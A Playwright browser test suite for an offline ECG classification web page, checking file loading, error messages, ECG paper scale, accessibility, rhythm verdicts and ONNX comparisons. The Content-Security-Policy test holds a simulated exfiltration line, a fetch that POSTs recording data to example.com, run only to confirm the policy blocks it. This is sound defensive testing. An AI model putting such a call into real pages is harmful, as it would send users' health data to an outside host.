// The page in a real browser (Debian's Chromium via playwright-core): files dropped or picked are
// classified exactly as `ecglite classify --json` does, problems are shown precisely, the paper keeps
// its scale, the page works offline, and no request ever leaves the page's own origin.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync, mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { cliJson, ecglite, NO_CLI } from '../js/support.mjs';
import {
  DATA_DIR, MODEL, ROOT, SAMPLES, SKIP, WEB, assertShowsCli, browserForTestFile, drop, expectedFor, percent, pick, screenshotPath, settled,
} from './support.mjs';

const env = browserForTestFile();

test('a WFDB pair opened with the file picker shows the CLI\'s predictions', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  await pick(page, [path.join(SAMPLES, '00001_lr.hea'), path.join(SAMPLES, '00001_lr.dat')]);
  await assertShowsCli(page, path.join(SAMPLES, '00001_lr.hea'));
  assert.match(await page.textContent('#facts-list'), /12: I, II, III, AVR/);
  assert.match(await page.textContent('#facts-list'), /100 Hz/);
  assert.match(await page.textContent('#pipeline'), /1 window/);
  assert.equal(await page.isVisible('#ecg'), true);
  await page.screenshot({ path: screenshotPath('ptbxl-00001.png'), fullPage: true });
  await page.close();
});

test('a 500 Hz .mat pair dropped on the page (DataTransfer) shows the CLI\'s predictions', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  await drop(page, [path.join(SAMPLES, 'HR06001.mat'), path.join(SAMPLES, 'HR06001.hea')]);
  await assertShowsCli(page, path.join(SAMPLES, 'HR06001.hea'));
  assert.match(await page.textContent('#pipeline'), /resampled from 500 Hz to 100 Hz/);
  assert.match(await page.textContent('#facts-list'), /Age: 78/);
  await page.close();
});

test('a CSV export shows the CLI\'s predictions', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  await pick(page, [path.join(SAMPLES, 'ptbxl-06003.csv')]);
  await assertShowsCli(page, path.join(SAMPLES, 'ptbxl-06003.csv'));
  assert.match(await page.textContent('#facts-list'), /uV/);
  await page.close();
});

test('a CSV without a sampling rate asks for it; the CSV options re-read it', { skip: SKIP }, async () => {
  const page = await env.newPage();
  const file = path.join(ROOT, 'tests', 'fixtures', 'csv', 'tab_units_no_rate.tsv');
  await pick(page, [file]);
  assert.match(await page.textContent('#problems'), /tab_units_no_rate\.tsv: cannot tell the sampling rate/);
  // The page opens the CSV options for the rate it asks for.
  assert.equal(await page.$eval('.csv-options', (d) => d.open), true);
  await settled(page, async () => {
    await page.fill('#csv-rate', '250');
    await page.press('#csv-rate', 'Tab');
  });
  assert.equal(await page.$$eval('#problems .problem', (els) => els.length), 0);
  assert.match(await page.textContent('#facts-list'), /Sampling rate250 Hz/);
  assert.match(await page.textContent('#facts-list'), /3: II, I, V1/);
  await settled(page, () => page.selectOption('#csv-units', 'uV'));
  assert.match(await page.textContent('#facts-list'), /UnitsuV/);
  await page.close();
});

test('an incomplete pair says precisely what is missing', { skip: SKIP }, async () => {
  const page = await env.newPage();
  await pick(page, [path.join(SAMPLES, '00001_lr.hea')]);
  const text = await page.textContent('#problems');
  assert.match(text, /00001_lr\.hea needs 00001_lr\.dat — drop it together with the header/);
  assert.equal(await page.isVisible('#problems .problem'), true);
  await pick(page, [path.join(SAMPLES, 'HR06001.mat')]);
  assert.match(await page.textContent('#problems'), /HR06001\.mat is a WFDB signal file: drop its header HR06001\.hea together with it/);
  await page.close();
});

test('a bad file shows a visible error and the next good file still classifies', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  const dir = mkdtempSync(path.join(tmpdir(), 'ecglite-bad-'));
  const bad = path.join(dir, 'broken.csv');
  writeFileSync(bad, Buffer.from([0, 1, 2, 3, 255, 254, 0, 7]));
  const badHeader = path.join(dir, 'nonsense.hea');
  writeFileSync(badHeader, 'nonsense 12 abc\n');
  await pick(page, [bad, badHeader]);
  const problems = await page.$$eval('#problems .problem', (els) => els.map((e) => e.textContent));
  assert.ok(problems.some((p) => p.startsWith('broken.csv: not a CSV text file')), problems.join('\n'));
  assert.ok(problems.some((p) => p.includes('nonsense.hea')), problems.join('\n'));
  assert.equal(await page.isVisible('#problems .problem'), true);
  assert.equal(await page.isVisible('#result'), false);
  await pick(page, [path.join(SAMPLES, '00001_lr.dat'), path.join(SAMPLES, '00001_lr.hea')]);
  assert.equal(await page.$$eval('#problems .problem', (els) => els.length), 0);
  await assertShowsCli(page, path.join(SAMPLES, '00001_lr.hea'));
  await page.close();
});

test('sample buttons load the bundled records', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  await settled(page, () => page.click('button[data-sample="cinc-HR06001"]'));
  await assertShowsCli(page, path.join(SAMPLES, 'HR06001.hea'));
  await page.close();
});

test('the ECG paper keeps its true scale across window sizes and pixel ratios', { skip: SKIP }, async () => {
  const widths = [];
  for (const [viewport, dpr] of [[{ width: 1280, height: 900 }, 1], [{ width: 800, height: 900 }, 2]]) {
    const page = await env.context.newPage();
    await page.setViewportSize(viewport);
    await page.emulateMedia({});
    const cdp = await env.context.newCDPSession(page);
    await cdp.send('Emulation.setDeviceMetricsOverride', { width: viewport.width, height: viewport.height, deviceScaleFactor: dpr, mobile: false });
    page.on('request', (r) => env.requests.push(r.url()));
    await page.goto(env.server.url);
    await page.waitForSelector('body[data-ready="true"]');
    await pick(page, [path.join(SAMPLES, '00001_lr.hea'), path.join(SAMPLES, '00001_lr.dat')]);
    await page.waitForTimeout(200);
    const m = await page.evaluate(() => {
      const content = document.querySelector('.ecg-content');
      const canvas = document.querySelector('.ecg-canvas');
      return { content: content.getBoundingClientRect().width, cssWidth: canvas.getBoundingClientRect().width, backing: canvas.width, dpr: devicePixelRatio };
    });
    // 3 x 4 page: 12 mm margin + 10 s at 25 mm/s + 4 mm = 266 mm of 96/25.4 CSS px.
    assert.ok(Math.abs(m.content - 266 * 96 / 25.4) <= 1, `content ${m.content}px`);
    assert.equal(m.dpr, dpr);
    assert.ok(Math.abs(m.backing - Math.round(m.cssWidth * dpr)) <= 1, `backing store ${m.backing} for ${m.cssWidth} CSS px at ${dpr}x`);
    widths.push(m.content);
    // 50 mm/s doubles the time axis.
    await page.selectOption('#speed', '50');
    await page.waitForTimeout(100);
    const wide = await page.evaluate(() => document.querySelector('.ecg-content').getBoundingClientRect().width);
    assert.ok(Math.abs(wide - 516 * 96 / 25.4) <= 1, `50 mm/s content ${wide}px`);
    if (dpr === 2) await page.screenshot({ path: screenshotPath('narrow-dpr2.png'), fullPage: true });
    await page.close();
  }
  assert.ok(Math.abs(widths[0] - widths[1]) <= 1);
});

test('a phone-sized screen has no horizontal page overflow; the ECG scrolls inside its box', { skip: SKIP }, async () => {
  const page = await env.newPage({ viewport: { width: 375, height: 800 } });
  await pick(page, [path.join(SAMPLES, 'HR06001.hea'), path.join(SAMPLES, 'HR06001.mat')]);
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `page is ${overflow}px wider than the screen`);
  const scroller = await page.evaluate(() => { const s = document.getElementById('scroller'); return { client: s.clientWidth, scroll: s.scrollWidth }; });
  assert.ok(scroller.scroll > scroller.client);
  await page.screenshot({ path: screenshotPath('phone.png'), fullPage: true });
  await page.close();
});

test('keyboard: the first control opens the file picker, results are announced', { skip: SKIP }, async () => {
  const page = await env.newPage();
  // Listening before anything else: Playwright turns on file-chooser interception asynchronously,
  // and a chooser opened before that is a native dialog that never reaches the test.
  const chooserOpened = page.waitForEvent('filechooser');
  // Tab from the top of the page: skip link, then the file picker button.
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.className), 'skip');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'choose');
  await page.keyboard.press('Enter');
  const chooser = await chooserOpened;
  assert.equal(chooser.isMultiple(), true);
  assert.equal(await page.getAttribute('#announce', 'aria-live'), 'polite');
  assert.equal(await page.getAttribute('#status', 'role'), 'status');
  // Every form control has an accessible name.
  const unlabeled = await page.$$eval('input:not([type=hidden]):not([hidden]), select, button', (els) =>
    els.filter((e) => !(e.labels?.length || e.getAttribute('aria-label') || e.textContent.trim())).map((e) => e.outerHTML));
  assert.deepEqual(unlabeled, []);
  await page.close();
});

test('a 30-minute two-lead recording: scrolling strip, beats and heart rate as `ecglite rhythm`, and why it is not classified', { skip: SKIP || NO_CLI || (!existsSync(path.join(DATA_DIR, 'mitdb', '208.atr')) && 'MIT-BIH absent') }, async () => {
  const page = await env.newPage();
  const base = path.join(DATA_DIR, 'mitdb', '208');
  await pick(page, [`${base}.hea`, `${base}.dat`, `${base}.atr`]);
  const reason = await page.textContent('#result-body');
  assert.match(reason, /Not classified: .*MLII, V1.*12-lead/);
  // The hint for missing leads comes from the record and the error's kind, not from the words.
  assert.match(reason, /The screening model reads the 12 standard leads of a resting ECG/);
  // Beats and heart rate: the page shows what the CLI computes (with the same beat model, if any).
  await page.waitForSelector('#heart-rate');
  const beatsModel = path.join(WEB, 'models', 'beats-int8.ecgm');
  const rhythm = cliJson('rhythm', base, ...(existsSync(beatsModel) ? ['--model', beatsModel] : ['--no-model']), '--json');
  assert.match(await page.textContent('#heart-rate'), new RegExp(`^Heart rate ${Math.round(rhythm.heart_rate.mean_bpm)} beats per minute`));
  assert.match(await page.textContent('#rhythm-body'), new RegExp(`${rhythm.beats_detected.toLocaleString('en')} beats detected`));
  if (rhythm.classified) {
    assert.match(await page.textContent('#ectopy-v'), new RegExp(`Ventricular ectopy \\(V\\): ${rhythm.ventricular.beats.toLocaleString('en')} beat`));
    assert.match(await page.textContent('#ectopy-s'), new RegExp(`Supraventricular ectopy \\(S\\): ${rhythm.supraventricular.beats.toLocaleString('en')} beat|Supraventricular ectopy \\(S\\): none`));
    assert.match(await page.textContent('#beat-class-caveat'), /research model.*not as a diagnosis/);
  }
  assert.match(await page.textContent('#rhythm-body'), /Reference rhythm annotations \(208\.atr\): rhythm N \(normal sinus rhythm\) .* rhythm T \(ventricular trigeminy\) /);
  assert.equal(await page.isVisible('#hr-trend'), true);
  // The trend's axis ends at the record's length, not at the end of its last 10 s interval.
  assert.match(await page.getAttribute('#hr-trend', 'aria-label'), /over 30 min 6 s$/);
  assert.match(await page.textContent('#layout-note'), /12 standard leads/);
  const geometry = await page.evaluate(async () => {
    const s = document.getElementById('scroller');
    s.scrollLeft = 100000;
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
    const canvas = document.querySelector('.ecg-canvas');
    return { scrollWidth: s.scrollWidth, scrollLeft: s.scrollLeft, canvas: canvas.width, client: s.clientWidth };
  });
  // 30 min 6 s at 25 mm/s = 45,150 mm of paper, drawn through a canvas no wider than the view.
  assert.ok(geometry.scrollWidth > 45000 * 96 / 25.4, JSON.stringify(geometry));
  assert.ok(geometry.canvas <= geometry.client * 2 + 2, JSON.stringify(geometry));
  assert.equal(geometry.scrollLeft, 100000);
  await page.screenshot({ path: screenshotPath('mitdb-208.png'), fullPage: true });
  await page.close();
});

const RHYTHM_MODEL = path.join(WEB, 'models', 'rhythm-int8.ecgm');
const FIXTURES = path.join(ROOT, 'tests', 'fixtures');

test('a single-lead AF recording and an Apple Watch export show the rhythm verdict of `ecglite rhythm`', { skip: SKIP || NO_CLI || (!existsSync(RHYTHM_MODEL) && 'no rhythm model in web/models') }, async () => {
  for (const files of [['A00004.hea', 'A00004.mat'], ['apple-watch-af.csv']]) {
    const page = await env.newPage();
    await drop(page, files.map((f) => path.join(FIXTURES, 'rhythm', f)));
    await page.waitForSelector('#rhythm-verdict');
    const { verdict } = cliJson('rhythm', path.join(FIXTURES, 'rhythm', files[0]), '--no-model', '--rhythm-model', RHYTHM_MODEL, '--json');
    assert.equal(verdict.class, 'A', `${files[0]}: the shipped model no longer calls this AF recording AF`);
    const shown = await page.textContent('#rhythm-verdict');
    assert.match(shown, new RegExp(`^Atrial fibrillation \\(probability ${Math.round(100 * verdict.probability)} %, read from lead `));
    assert.equal(await page.getAttribute('#rhythm-verdict', 'data-rhythm-class'), 'A');
    assert.match(await page.textContent('#rhythm-caveat'), /not a diagnosis/);
    if (files.length === 2) await page.screenshot({ path: screenshotPath('rhythm-af.png'), fullPage: true });
    await page.close();
  }
});

test('a 12-lead record: the rhythm is read from lead I, and from the lead the user picks, as `ecglite rhythm --rhythm-lead`', { skip: SKIP || NO_CLI || (!existsSync(RHYTHM_MODEL) && 'no rhythm model in web/models') }, async () => {
  const page = await env.newPage();
  const hea = path.join(SAMPLES, '00001_lr.hea');
  await pick(page, [hea, path.join(SAMPLES, '00001_lr.dat')]);
  await page.waitForSelector('#rhythm-lead');
  assert.equal(await page.inputValue('#rhythm-lead'), '0');
  const first = cliJson('rhythm', hea, '--no-model', '--rhythm-model', RHYTHM_MODEL, '--json').verdict;
  assert.equal(first.lead_name, 'I');
  assert.equal(await page.getAttribute('#rhythm-verdict', 'data-rhythm-class'), first.class);
  await page.selectOption('#rhythm-lead', '1');
  await page.waitForFunction(() => document.querySelector('#rhythm-lead')?.value === '1');
  const second = cliJson('rhythm', hea, '--no-model', '--rhythm-model', RHYTHM_MODEL, '--rhythm-lead', '1', '--json').verdict;
  assert.equal(second.lead_name, 'II');
  assert.equal(await page.getAttribute('#rhythm-verdict', 'data-rhythm-class'), second.class);
  assert.match(await page.textContent('#rhythm-verdict'), new RegExp(`probability ${Math.round(100 * second.probability)} %`));
  await page.close();
});

test('the page declares a Content-Security-Policy that forbids other origins, and the server sends it', { skip: SKIP }, async () => {
  const page = await env.newPage();
  const meta = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(meta, /default-src 'self'/);
  assert.match(meta, /connect-src 'self'/);
  assert.match(meta, /script-src 'self' 'wasm-unsafe-eval'/);
  assert.doesNotMatch(meta, /'unsafe-eval'|'unsafe-inline'|\s\*/);
  assert.match(await page.textContent('#privacy'), /Your recording never leaves this device/);
  const response = await page.request.get(env.server.url);
  assert.match(response.headers()['content-security-policy'], /connect-src 'self'/);
  assert.equal(response.headers()['cross-origin-opener-policy'], 'same-origin');
  // A script trying to phone home is blocked by the policy.
  const blocked = await page.evaluate(async () => {
    try { await fetch('https://example.com/collect', { method: 'POST', body: 'ecg' }); return false; } catch { return true; }
  });
  assert.equal(blocked, true);
  env.problems.splice(0, env.problems.length, ...env.problems.filter((p) => !p.includes('example.com')));
  env.requests.splice(0, env.requests.length, ...env.requests.filter((u) => !u.includes('example.com')));
  await page.close();
});

test('after one visit the page works offline (service worker)', { skip: SKIP || NO_CLI }, async () => {
  const page = await env.newPage();
  await page.evaluate(() => navigator.serviceWorker.ready);
  // Let the install step finish filling its cache.
  await page.waitForFunction(async () => (await (await caches.open('ecglite-v1')).keys()).length >= 10, null, { timeout: 30000 });
  await env.context.setOffline(true);
  try {
    await page.reload();
    await page.waitForSelector('body[data-ready="true"]', { timeout: 30000 });
    await settled(page, () => page.click('button[data-sample="ptbxl-00001"]'));
    await assertShowsCli(page, path.join(SAMPLES, '00001_lr.hea'));
  } finally {
    await env.context.setOffline(false);
  }
  await page.close();
});

const buildInfo = SKIP ? {} : JSON.parse(readFileSync(path.join(WEB, 'build-info.json'), 'utf8'));
const NO_ONNX = !buildInfo.onnxRuntime && 'this build has no ONNX Runtime Web or no ONNX model';

// ONNX Runtime Web in Node on the module's own network input: what the page must show.
async function onnxReference(precision, recordBase) {
  const ort = await import('onnxruntime-web/wasm');
  ort.env.wasm.numThreads = 1;
  const { ecglite, readWfdbRecord } = await import('../js/support.mjs');
  const ecg = await ecglite();
  const model = ecg.loadModel(readFileSync(MODEL));
  const record = readWfdbRecord(ecg, recordBase);
  const input = ecg.networkInput(model, record);
  const session = await ort.InferenceSession.create(readFileSync(path.join(WEB, 'models', `student-${precision}.onnx`)), { executionProviders: ['wasm'] });
  const out = await session.run({ [session.inputNames[0]]: new ort.Tensor('float32', input.data, input.dims) });
  const result = ecg.combine(model, input, out[session.outputNames[0]].data);
  record.dispose();
  model.dispose();
  return result;
}

test('ONNX Runtime Web runs the same network on EcgLite\'s input, side by side, loaded only when chosen', { skip: SKIP || NO_CLI || NO_ONNX }, async () => {
  const page = await env.newPage();
  const before = env.requests.filter((u) => u.includes('/vendor/')).length;
  await pick(page, [path.join(SAMPLES, 'HR06001.hea'), path.join(SAMPLES, 'HR06001.mat')]);
  assert.equal(env.requests.filter((u) => u.includes('/vendor/')).length, before, 'ONNX Runtime fetched before it was chosen');
  for (const precision of buildInfo.onnxModels.map((f) => f.match(/student-(\w+)\.onnx/)[1])) {
    await page.check('input[name="engine"][value="onnx"]');
    await page.selectOption('#onnx-precision', precision);
    await page.waitForFunction((p) => document.querySelector('#comparison thead th:nth-child(3)')?.textContent.includes(p) &&
      document.querySelectorAll('#comparison tbody tr[data-class]').length > 0, precision, { timeout: 60000 });
    const rows = await page.$$eval('#comparison tbody tr[data-class]', (trs) => trs.map((tr) => ({
      name: tr.dataset.class, ecglite: tr.querySelector('.ecglite-prob').textContent, onnx: tr.querySelector('.onnx-prob').textContent,
    })));
    const expected = expectedFor(path.join(SAMPLES, 'HR06001.hea'));
    const reference = await onnxReference(precision, path.join(SAMPLES, 'HR06001'));
    for (const [i, row] of rows.entries()) {
      assert.equal(row.ecglite, percent(expected.probabilities[row.name]), `EcgLite ${row.name}`);
      assert.equal(row.onnx, percent(reference.classes[i].probability), `ONNX ${precision} ${row.name}`);
    }
    assert.match(await page.textContent('#comparison'), /session created in \d+ ms/);
  }
  assert.ok(env.requests.some((u) => u.endsWith('/vendor/ort.wasm.min.mjs')));
  await page.screenshot({ path: screenshotPath('onnx-comparison.png'), fullPage: true });
  await page.close();
});

test('the README\'s browser embedding works as printed (installed package layout, same numbers as the CLI)', { skip: SKIP || NO_CLI }, async () => {
  const { mkdirSync, copyFileSync } = await import('node:fs');
  const readme = readFileSync(path.join(ROOT, 'wasm', 'README.md'), 'utf8');
  const html = readme.split('## Embedding in a page')[1].match(/```html\n([\s\S]*?)```/)[1];
  const script = html.match(/<script type="module">\n([\s\S]*?)<\/script>/)[1];
  await env.withSite('ecglite-embed-', (root) => {
    const pkg = path.join(root, 'node_modules', 'ecglite');
    mkdirSync(path.join(pkg, 'models'), { recursive: true });
    for (const f of ['ecglite.mjs', 'files.mjs', 'ecglite-core.mjs', 'ecglite-core.wasm', 'models/student-int8.ecgm']) copyFileSync(path.join(ROOT, 'wasm', f), path.join(pkg, f));
    // The inline script as a file of its own: the server's CSP (rightly) forbids inline scripts.
    writeFileSync(path.join(root, 'embed.mjs'), script);
    writeFileSync(path.join(root, 'index.html'), html.replace(/<script type="module">[\s\S]*<\/script>/, '<script type="module" src="embed.mjs"></script>'));
  }, async (page, url) => {
    const logged = [];
    page.on('console', async (m) => { if (m.type() === 'log') logged.push(await m.args()[0].jsonValue()); });
    page.on('pageerror', (e) => env.problems.push(`embed page error: ${e.message}`));
    await page.goto(url);
    await page.waitForFunction(() => document.readyState === 'complete');
    await page.setInputFiles('#files', [path.join(SAMPLES, 'HR06001.hea'), path.join(SAMPLES, 'HR06001.mat')]);
    // up to a minute: a loaded CI machine compiles the wasm module slowly (not a time assertion)
    for (let i = 0; i < 600 && !logged.length; i++) await page.waitForTimeout(100);
    const [r] = cliJson('classify', path.join(SAMPLES, 'HR06001.hea'), '--model', path.join(ROOT, 'wasm', 'models', 'student-int8.ecgm'), '--json').records;
    assert.equal(logged.length, 1);
    for (const c of logged[0]) assert.ok(Math.abs(c.probability - r.probabilities[c.name]) <= 5e-6 * c.probability + 1e-9, c.name);
  });
});

test('the module says clearly when its wasm is missing, and loads it through locateFile even when served as octet-stream', { skip: SKIP }, async () => {
  const { copyFileSync } = await import('node:fs');
  await env.withSite('ecglite-wasm-', (root) => {
    for (const f of ['ecglite.mjs', 'files.mjs', 'ecglite-core.mjs']) copyFileSync(path.join(ROOT, 'wasm', f), path.join(root, f));
    // The plain name is absent; the same bytes under another name get no application/wasm type.
    copyFileSync(path.join(ROOT, 'wasm', 'ecglite-core.wasm'), path.join(root, 'core.bin'));
    writeFileSync(path.join(root, 'index.html'), '<!doctype html><title>wasm</title>');
  }, async (page, url) => {
    await page.goto(url);
    const outcome = await page.evaluate(async () => {
      const { createEcgLite } = await import('/ecglite.mjs');
      const missing = await createEcgLite().then(() => 'created', (e) => e.message);
      const ecg = await createEcgLite({ locateFile: (file, dir) => `${dir}core.bin` });
      return { missing, version: ecg.version, maxSignals: ecg.limits.maxSignals };
    });
    assert.match(outcome.missing, /ecglite-core\.wasm: HTTP 404 \(is ecglite-core\.wasm deployed next to ecglite\.mjs/);
    const node = await ecglite();
    assert.deepEqual([outcome.version, outcome.maxSignals], [node.version, node.limits.maxSignals]);
  });
});

test('the page runs the very module the npm package ships', { skip: SKIP }, () => {
  for (const file of ['ecglite.mjs', 'files.mjs', 'ecglite-core.mjs', 'ecglite-core.wasm'])
    assert.ok(readFileSync(path.join(WEB, file)).equals(readFileSync(path.join(ROOT, 'wasm', file))), file);
  assert.match(readFileSync(path.join(WEB, 'worker.js'), 'utf8'), /from '\.\/ecglite\.mjs'/);
});
